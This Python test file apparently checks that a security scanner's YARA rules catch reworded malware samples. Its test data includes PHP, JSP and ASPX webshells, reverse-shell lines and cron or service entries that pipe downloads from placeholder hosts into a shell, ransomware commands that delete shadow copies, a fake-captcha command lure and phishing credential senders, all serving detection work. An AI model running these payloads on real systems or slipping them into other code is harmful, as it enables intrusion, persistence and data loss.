"""Attacks in other words than the samples beside the rules: other spellings, encodings and forms of the same kinds.

All are harmless fragments with addresses for documentation.
"""

import struct
import zipfile
from functools import cache
from io import BytesIO

import pytest

from soc_agent.scanning.archives import Bounds, Inside
from soc_agent.scanning.kinds import externals, kind_of
from soc_agent.scanning.server import Rules, match
from tests import product

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0>\0"
LIBRARY = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0>\0"
PE = b"MZ" + bytes(0x3E) + b"This program cannot be run in DOS mode"
OLE = bytes.fromhex("d0cf11e0a1b11ae1")


@cache
def rules() -> Rules:
    return Rules(product.yara_rules().pieces)


def found(data: bytes | str, path: str = "/srv/www/a") -> set[str]:
    data = data.encode() if isinstance(data, str) else data
    answer = match(rules().of(kind_of(data[:8])), data, externals(path, "root", data[:8]), 30)
    return {each.rule for each in answer.matches}


def wide(text: str) -> bytes:
    return text.encode("utf-16-le")


PHP = {
    "webshell_php_input_eval": (
        "<?php eval ( stripslashes( $_REQUEST[chr(97)] ) );",
        "<?=system($_GET['cmd'])?>",
        '\xef\xbb\xbf<?php assert("$_POST[a]");',
        "<?php passthru(base64_decode(strrev($_COOKIE['z'])));",
        "<?php $_REQUEST['f']($_REQUEST['x']);",
        "<?php echo `{$_GET['c']} 2>&1`;",
        "<?php call_user_func($_GET['f'], $_GET['a']);",
        "<?php (new ReflectionFunction($_GET['f']))->invoke($_GET['a']);",
        "<?php eval(end(getallheaders()));",
        "<?php @preg_replace('/x/e', $_POST['c'], 'x');\n@preg_replace($_POST['p'], $_POST['c'], 'x');",
    ),
    "webshell_php_obfuscated": (
        "<?php @eval(gzuncompress(base64_decode('eNo=')));",
        "<?php eval(str_rot13('cucvasb();'));",
        "<?php $x = chr(101).chr(118).chr(97).chr(108).chr(40).chr(41).chr(59); eval($x);",
        (
            '<?php ${"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}[\'a\'] = ${"\\x47\\x4c\\x4f\\x42\\x41"}; '
            '${"\\x47\\x4c\\x4f\\x42\\x41\\x4c"} = ${"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"};'
        ),
        "<?php $f = 'sys' . 'tem'; $f('id');",
    ),
    "webshell_php_two_steps": (
        "<?php\n$c = isset($_POST['c']) ? $_POST['c'] : '';\n$out = shell_exec($c . ' 2>&1');\necho $out;",
        "<?php $p = $_SERVER['HTTP_USER_AGENT']; if (strlen($p) > 3) { eval($p); }",
        "<?php parse_str($_GET); echo $a($b);",
        "<?php $a = trim($_GET['a']); $h = popen(\"$a\", 'r'); echo fread($h, 4096);",
    ),
    "webshell_php_remote_code": (
        "<?php eval('?>' . file_get_contents(base64_decode('aHR0cHM6Ly9hLmV4YW1wbGUubmV0L2E=')));",
        "<?php $x = file_get_contents('http://a.example.net/x.txt'); eval($x);",
        "<?php include('https://a.example.net/a.txt');",
    ),
    "webshell_php_in_picture": ("GIF87a....<?= `$_GET[0]`; ?>", "BM......<?php system('id');"),
    "webshell_php_writes_file": (
        "<?php fputs(fopen($_GET['f'], 'w'), $_GET['d']); file_put_contents($_REQUEST['a'] . '.php', $_REQUEST['b']);",
    ),
    "webshell_php_known_panel": (
        "<?php $default_action = 'FilesMan'; $x = ini_get('disable_functions'); @system($c);",
        "<?php echo 'IndoXploit'; echo php_uname(); passthru($cmd);",
    ),
}
PAGES = {
    "webshell_jsp": (
        '<jsp:scriptlet>Runtime.getRuntime().exec(request.getHeader("X"));</jsp:scriptlet>',
        (
            '<%@page import="java.io.*"%>\n<%\nString[] c = {"/bin/sh","-c",request.getParameter("c")};\n'
            "Process p = Runtime.getRuntime ( ) . exec (c);\n%>"
        ),
        '<% javax.el.ELProcessor e = new javax.el.ELProcessor(); e.eval(request.getParameter("x")); %>',
    ),
    "webshell_aspx": (
        '<%@ Page Language="VB" %><% Dim p As New ProcessStartInfo("cmd.exe", "/c " & Request("c")): Process.Start(p)',
        (
            '<%@ WebHandler Language="C#" Class="H" %>public class H { void P(HttpContext c) { '
            'Assembly.Load(Convert.FromBase64String(c.Request["x"])).CreateInstance("K").Equals(c); } }'
        ),
        '<%ExecuteGlobal(Request.Form("x"))%>',
        '<script language=vbscript runat=server>eval(request("x"))</script>',
    ),
    "java_memory_webshell": (
        (
            '<%@ page import="org.apache.catalina.core.*" %><% StandardContext c = x(); c.getPipeline().addValve(v); '
            'new ProcessBuilder(r.getHeader("c")).start(); %>'
        ),
    ),
    "web_server_setting_runs_code": (
        "AddHandler application/x-httpd-php .txt .png\n",
        "SetHandler application/x-httpd-php .jpg\nForceType application/x-httpd-php .jpeg\n",
        "php_value auto_prepend_file php://input\n",
    ),
    "page_with_hidden_gambling_links": (
        (
            '<DIV STYLE="text-indent:-9999px"><A HREF="https://a.example.net/">Casino online</A> | '
            '<a href="https://b.example.net">Soi kèo hôm nay</a></DIV>'
        ),
        (
            '<p style="font-size:0px;"><a href="https://a.example.net">nổ hũ đổi thưởng</a><a '
            'href="https://b.example.net" title="x">Đá gà trực tiếp</a></p>'
        ),
    ),
    "page_asks_to_run_command": (
        (
            "<html><body>I'm not a robot. Confirm you are human: <b>Windows</b> + <kbd>R</kbd>, then <kbd>CTRL</kbd> + "
            '<kbd>V</kbd> and Enter<script>navigator.clipboard.writeText("mshta https://a.example.net/a.hta")</script>'
        ),
    ),
    "html_carries_program": (
        (
            '<!DOCTYPE html><script>const d = atob("UmFyIRoHAQ=="); const b = new Blob([d]); '
            'l.setAttribute("href", URL.createObjectURL(b)); l.download="a.rar"; l.click()</script>'
        ),
    ),
    "svg_with_script": (
        (
            '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script type="text/javascript">'
            "document.location.replace(atob('aHR0cHM6Ly9hLmV4YW1wbGUubmV0'))</script></svg>"
        ),
    ),
    "phishing_kit_sends_passwords": (
        "<?php $m = \"Mật khẩu: \" . $_POST['matkhau']; mail($to, 'Zimbra', $m); header('Location: https://mail.example.vn');",
        "<?php $u = 'https://discord.com/api/webhooks/1/x'; curl($u, $_POST['passwd']);",
    ),
    "defaced_page": (
        "<html><title>Pwned by Example Crew</title><body bgcolor='#000'></body></html>",
        "<HTML><BODY><H1>HACKED BY EXAMPLE TEAM</H1><p>we are legion</p></BODY></HTML>",
    ),
}
SCRIPTS = {
    "python_unpacks_and_runs": (
        (
            "exec(__import__('zlib').decompress(__import__('base64').b64decode("
            "'eJwBAAD//wAAAAEBBBBBCCCCDDDDEEEEFFFFGGGGHHHHIIIIJJJJ')))"
        ),
        "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00'))",
    ),
    "shell_unpacks_and_runs": (
        '#!/bin/sh\nbash <<< "$(echo aWQK | base64 --decode)"\n',
        "#!/usr/bin/perl\neval unpack u=>q{_<')I;G0@(DAE;&QO};\n",
        "echo aW1wb3J0IG9z | base64 -d | python3\n",
    ),
    "powershell_hidden_words": (
        "powershell -c \"&( $ShellId[1]+$ShellId[13]+'x') $x; $env:comspec[4,24,25]-join''\"",
        (
            "$c = 'DllImport'; Add-Type $c; $a = [K]::VirtualAlloc(0, 9, 1, 2); $d = [Convert]::FromBase64String($s); "
            "[K]::CreateThread(0, 0, $a); New-Object x"
        ),
    ),
    "windows_script_dropper": (
        (
            'Dim x: Set x = CreateObject("WinHttp.WinHttpRequest.5.1")\nx.Open "GET", u\nSet s = '
            'CreateObject("ADODB.Stream")\ns.Write x.ResponseBody\ns.SaveToFile f\nCreateObject("Shell.Application")'
            ".ShellExecute f\n"
        ),
    ),
    "reverse_shell_script": (
        "exec 5<>/dev/tcp/198.51.100.7/443; cat <&5 | while read l; do $l 2>&5 >&5; done\n",
        "bash -i >& /dev/tcp/2001:db8::7/443 0>&1\n",
        "sh -i 5<> /dev/tcp/a.example.net/443 0<&5 1>&5 2>&5\n",
    ),
    "ransomware_stops_recovery": (
        "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }; bcdedit.exe /set recoveryenabled No\n",
        "WMIC SHADOWCOPY DELETE\r\nwbadmin DELETE SYSTEMSTATEBACKUP\r\n",
    ),
    "cron_job_fetches_or_hides": (
        "* * * * * wget -qO- http://a.example.net/x | bash\n",
        "*/10 * * * * root /var/tmp/.font/unix >/dev/null 2>&1\n",
        "@daily curl -s http://[2001:db8::7]/a | sudo bash\n",
    ),
    "service_unit_from_odd_place": (
        "[Unit]\nAfter=network.target\n[Service]\nType=idle\nExecStart=-/var/tmp/kdump --daemon\nRestart=on-failure\n",
        "[Service]\nExecStartPre=/bin/sh -c 'curl -s http://198.51.100.7/a | sh'\nExecStart=/bin/true\n",
    ),
    "rival_miner_cleaner": (
        (
            "#!/bin/sh\nsystemctl stop firewalld\nps -ef | grep -v grep | grep xmr-stak | xargs kill\n"
            "pkill -9 watchbog\nkillall -9 minerd\nrm -rf /tmp/kinsing\nwget http://198.51.100.7/b -O /var/tmp/b\n"
        ),
    ),
    "tunnel_tool": ('serverAddr = "198.51.100.7"\nserverPort = 7000\n\n[[proxies]]\nname = "x"\nremotePort = 6001\n',),
}
BINARIES = {
    "elf_mirai_bot": (
        ELF + b"/bin/busybox\0/dev/watchdog\0/proc/net/tcp\0listening tun0\0TSource Engine Query\0",
        ELF + b"/HNAP1/\0/ctrlt/DeviceUpgrade_1\0<NewStatusURL>\0",
    ),
    "elf_preload_rootkit": (LIBRARY + b"readdir64\0dlsym\0HIDE_THIS_SHELL\0hidden_ports\0",),
    "elf_kernel_rootkit": (
        ELF + b"vermagic=5.15.0\0prepare_creds\0commit_creds\0sys_call_table\0orig_getdents64\0give_root\0",
    ),
    "elf_login_password_thief": (
        LIBRARY + b"pam_sm_authenticate\0pam_get_item\0Username: %s, Password: %s\n\0",
        ELF + b"OpenSSH_8.9\0auth_password\0login=%s pass=%s host=%s\0",
    ),
    "cobalt_strike_beacon": (
        PE + b"Started service %s on %s\0could not create remote thread in %d: %d\0%s as %s\\%s: %d\0",
        b"\xfc\xe8" + bytes.fromhex("2e2f2e2f2e2c2e262e2c2e2f2e2c1c682e2d2e2c2e2a"),
    ),
    "dotnet_remote_control": (
        PE + b"BSJB" + wide("XWorm V3.1") + wide("PCShutdown"),
        PE + b"mscoree.dll" + wide("|'|'|") + wide("netsh firewall add allowedprogram"),
    ),
    "lsass_memory_dump": (b"MDMP\x93\xa7\0\0" + wide("C:\\WINDOWS\\system32\\LSASS.EXE"),),
    "windows_account_database": (b"regf\x02\0\0\0" + wide("\\SystemRoot\\System32\\Config\\SAM"),),
    "office_macro_runs_program": (
        OLE + b"Attribut\0e VB_Name = \"ThisDocument\" AutoOpen CreateObject(\"WScript.Shell\") mshta http",
        OLE + b"VBAProject ThisWorkbook Auto_Open VirtualAlloc RtlMoveMemory",
    ),
    "rtf_equation_exploit": (
        b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 01050000020000000b0000004571756174696F6E2E3300}}}",
    ),
    "lnk_starts_script": (
        struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046")
        + wide("%ComSpec% cmd.exe /c start /min powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA="),
    ),
    "pdf_starts_program": (
        b"%PDF-1.3\n3 0 obj <</Type/Action/S/Launch/Win<</F(C:\\\\a.exe)/P(x)>>>>\n",
        b"%PDF-1.6\n/OpenAction 2 0 R /JavaScript /JS (exportDataObject({cName:'a',nLaunch: 1})) /EmbeddedFile\n",
    ),
    "onenote_carries_program": (
        bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3e716e3bd65261145a4c48d4d0b7a9eac") + b"<hta:application>",
    ),
    "kerberos_ticket_file": (bytes.fromhex("7681ff3081fca003020105a103020116a2"),),
    "packed_elf_program": (ELF + b"UPX!\0$Info: This file is packed with the UPX executable packer $",),
}  # fmt: skip
CASES = [
    (name, number, content)
    for group in (PHP, PAGES, SCRIPTS, BINARIES)
    for name, contents in group.items()
    for number, content in enumerate(contents)
]


@pytest.mark.parametrize(("name", "number", "content"), CASES, ids=[f"{name}-{number}" for name, number, _ in CASES])
def test_the_same_attack_in_other_words_is_found(name: str, number: int, content: bytes | str) -> None:
    del number
    assert name in found(content)


def test_a_macro_inside_a_document_and_a_program_inside_an_archive_are_found() -> None:
    inner = BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as document:
        document.writestr(
            "word/vbaProject.bin", OLE + b"VBAProject ThisDocument Document_Open powershell WScript.Shell"
        )
        document.writestr(
            "word/_rels/settings.xml.rels",
            '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="https://a.example.net/mau.dotm" TargetMode="External"/></Relationships>',
        )
    outer = BytesIO()
    with zipfile.ZipFile(outer, "w") as archive:
        archive.writestr("Cong van.docm", inner.getvalue())
        archive.writestr("Cong van.pdf.exe", PE)
    inside = Inside(Bounds(4, 100, 1 << 20), lambda: False)
    members = inside.members(outer.getvalue(), "a.zip")
    names = set().union(*(found(data, f"/srv/thu/a.zip/{name}") for name, data in members))
    assert names >= {"office_macro_runs_program", "office_fetches_from_network", "pe_with_wrong_suffix"}


@pytest.mark.parametrize("path", ["/etc/ld.so.preload", "/mnt/image/etc/ld.so.preload"])
def test_a_preloaded_library_is_found_where_it_is_named(path: str) -> None:
    assert found("/lib/libselinux.so.8\n", path) == {"loader_preloads_library"}
    assert found("/lib/libselinux.so.8\n", "/srv/notes.txt") == set()
